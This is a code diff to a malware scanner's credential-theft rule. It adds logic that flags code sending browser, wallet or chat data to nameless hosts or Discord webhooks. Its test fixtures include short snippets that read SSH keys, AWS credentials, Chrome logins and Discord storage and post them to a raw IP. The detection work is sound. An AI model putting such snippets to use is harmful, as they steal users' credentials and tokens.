@@ -2,6 +2,7 @@ import { addressesIn, NAMELESS, type AddressKind } from '../addresses.rules';
 import { clippings, linesWith, onLines } from '../matching';
 import type { FileRule, Sight } from '../rule';
 import type { SourceFile } from '../source-file';
+import { BOT_TOKEN, DISCORD_HOOK } from './data-drop.rules';
 import { PLACE_NEEDLES, STRONG_PLACE, STRONG_PLACES, WEAK_PLACE } from './secret-places';
 import { flowsOut } from './theft-flow';
 
@@ -82,8 +83,10 @@ const LOOT = new Set(['browser', 'keychain', 'wallet', 'chats']);
 function* collects(source: SourceFile): Generator<Sight> {
   const { text } = source;
   const kinds = STRONG_PLACES.filter(([, pattern]) => pattern.test(text));
+  const looted = kinds.some(([kind]) => LOOT.has(kind));
+  const toNobody = kinds.length > 0 && leadsToNobody(text);
   if (
-    kinds.length < 2 ||
+    (kinds.length < 2 && !(looted && toNobody)) ||
     !/\.post\s{0,2}\(|urlopen|\bcurl\b|method["']?\s{0,4}[:=]\s{0,4}["'](?:POST|PUT)|\.request\s{0,2}\(|sendDocument|axios\.post/i.test(
       text,
     )
@@ -91,10 +94,17 @@ function* collects(source: SourceFile): Generator<Sight> {
     return;
   if (!/\bopen\s{0,2}\(|read_text|read_bytes|readFile|\bzip|\btar\b|shutil\.copy|glob|\bcat\s|\bcp\s/i.test(text))
     return;
-  const looted = kinds.some(([kind]) => LOOT.has(kind));
   const first = kinds[0]?.[1].exec(text)?.index ?? 0;
-  yield { line: source.lineAt(first), weight: kinds.length > 2 ? 100 : looted ? 70 : 40 };
+  yield { line: source.lineAt(first), weight: kinds.length > 2 || toNobody ? 100 : looted ? 70 : 40 };
 }
+
+/** To an address without a name, or to a chat of the author's that is written into the code. */
+function leadsToNobody(text: string): boolean {
+  const beginning = text.slice(0, MOST_FOR_ADDRESSES);
+  if (BOT_TOKEN.test(beginning) || DISCORD_HOOK.test(beginning)) return true;
+  return [...addressesIn(beginning)].some(({ kind }) => NAMELESS.has(kind) || kind === 'throwaway');
+}
+const MOST_FOR_ADDRESSES = 200_000;
 
 const shared = {
   severity: 'critical',
@@ -196,10 +206,15 @@ export const CREDENTIAL_THEFT_RULES: readonly FileRule[] = [
           path: 'a.py',
           text: 'T = ["~/.ssh/id_rsa", "~/.aws/credentials", "Chrome/Default/Login Data"]\nfor t in T: z.write(open(t))\nrequests.post(u, files=z)',
         },
+        {
+          path: 'a.js',
+          text: "const d = read(path.join(home, 'discord/Local Storage/leveldb'));\nfs.readFileSync(d);\nfetch('http://45.33.32.156/t', { method: 'POST', body: d });",
+        },
       ],
       passes: [
         { path: 'a.py', text: 'cfg.read(os.path.expanduser("~/.aws/credentials"))\nrequests.post(u)' },
         { path: 'a.py', text: 'print("~/.ssh/id_rsa", "~/.aws/credentials")' },
+        { path: 'a.py', text: 'open("Chrome/Default/Login Data")\nrequests.post("https://api.acme.dev/sync")' },
       ],
     },
   },
